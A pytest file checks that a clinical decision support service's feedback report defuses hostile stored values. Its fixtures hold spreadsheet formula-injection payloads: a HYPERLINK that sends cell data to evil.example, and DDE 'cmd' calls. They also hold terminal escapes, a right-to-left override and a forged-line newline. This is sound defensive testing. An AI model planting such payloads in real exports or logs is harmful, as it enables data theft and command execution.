"""`myositis-cds report` on stored rows written by a hostile client or by hand, on both backends: the CSV
is RFC 4180 and no cell is a formula a spreadsheet would run, the text shows control characters as
escapes (no forged lines, no terminal escapes), and a row that cannot be read is skipped and counted."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import unicodedata

import psycopg
import pytest

from cds_service.command_line import cli
from cds_service.command_line.feedback_report import csv_cell, shown
from cds_service.storage.dependencies import scheme, sqlite_path
from cds_service.storage.store import IssuedCard
from tests.factories import NOW

SERVICE = "myositis-patient-view"
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\tX", "\rX", "\uff1d1+1"]
#: (No NUL: PostgreSQL refuses it, and the service refuses it in feedback; `shown` is tested with it below.)
CONTROLS = "esc\x1b[31mred, rlo\u202etxt.exe, bell\x07\nForged line: all cards accepted"


def overridden(card: str, code: str) -> dict:
    return {"card": card, "outcome": "overridden", "outcomeTimestamp": "2026-11-20T09:10:00Z",
            "overrideReason": {"reason": {"code": code, "system": "http://example.org/r"}}}


@pytest.fixture
def hostile_store(store, store_url, monkeypatch):
    """Cards of hostile recommendation ids (as a defect or a hand-written row would store them), each
    overridden with a hostile reason code."""
    names = [*FORMULAS, CONTROLS]
    store.record_cards([IssuedCard(f"card-{n}", SERVICE, name, "h", NOW) for n, name in enumerate(names)])
    store.record_feedback(SERVICE, [overridden(f"card-{n}", name) for n, name in enumerate(names)], NOW)
    monkeypatch.setenv("CDS_STORE_URL", store_url)
    return store


def report(*options: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    code = cli.main(["report", *options], out=out, err=err)
    return code, out.getvalue(), err.getvalue()


def test_report_csv_is_rfc_4180_with_crlf_line_ends_and_no_bare_cr(hostile_store):
    code, out, _ = report("--format", "csv")
    assert code == 0
    assert out.endswith("\r\n")
    assert out.count("\r") == out.count("\r\n") and out.count("\n") == out.count("\r\n")  # no line break in a cell
    rows = list(csv.reader(io.StringIO(out, newline="")))
    assert all(len(row) == len(rows[0]) for row in rows)


def test_report_csv_cells_a_spreadsheet_would_evaluate_are_neutralised(hostile_store):
    _, out, _ = report("--format", "csv")
    cells = [cell for row in csv.reader(io.StringIO(out, newline="")) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\uff1d")]
    assert "'=HYPERLINK(\"http://evil.example/?d=\"&A1)" in cells


def test_report_text_escapes_control_characters_and_no_stored_value_forges_a_line(hostile_store):
    _, out, _ = report()
    assert not [ch for ch in out if ch != "\n" and unicodedata.category(ch) in ("Cc", "Cf")]
    assert "\\x1b[31mred" in out and "\\u202e" in out and "\\x07" in out
    assert not [line for line in out.splitlines() if line.startswith("Forged")]


def corrupt_rows(store_url: str) -> None:
    """One issued card and one feedback row no release of the service writes."""
    if scheme(store_url) == "sqlite":
        with sqlite3.connect(sqlite_path(store_url)) as connection:
            connection.execute("INSERT INTO issued_card VALUES ('bad-card', ?, 'x', 'h', 'not a time')", (SERVICE,))
            connection.execute("INSERT INTO feedback VALUES ('d', ?, 'bad', 'overridden', 'x', '{not json', "
                               "'2026-11-20')", (SERVICE,))
        return
    with psycopg.connect(store_url) as connection:  # typed columns: a feedback item that is not an object
        connection.execute("INSERT INTO feedback (digest, service_id, card_uuid, outcome, outcome_timestamp, item, "
                           "received_at) VALUES ('d', %s, 'bad', 'overridden', 'x', '\"text\"', now())", (SERVICE,))


def test_report_skips_and_counts_an_unreadable_stored_row_with_a_warning(hostile_store, store_url):
    corrupt_rows(store_url)
    code, out, err = report("--format", "json")
    assert code == 0
    document = json.loads(out)
    assert document["unreadable_rows"]["feedback"] == 1
    assert document["total"]["issued"] == len(FORMULAS) + 1
    assert "warning: " in err and "unreadable stored rows skipped" in err


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@x", "\t1", "\r1", "\uff201"])
def test_a_csv_cell_that_starts_a_formula_is_prefixed_with_a_quote(value):
    assert csv_cell(value) == "'" + shown(value)


def test_csv_numbers_and_plain_text_are_left_as_they_are():
    assert (csv_cell(-1), csv_cell(0.5), csv_cell("pjp-prophylaxis")) == (-1, 0.5, "pjp-prophylaxis")


def test_shown_writes_control_and_format_characters_as_escapes():
    assert shown("a\x00b\x1b\u202e\u2028c\U000e0001") == "a\\x00b\\x1b\\u202e\\u2028c\\U000e0001"
    assert shown("Ménière café 5 mg") == "Ménière café 5 mg"
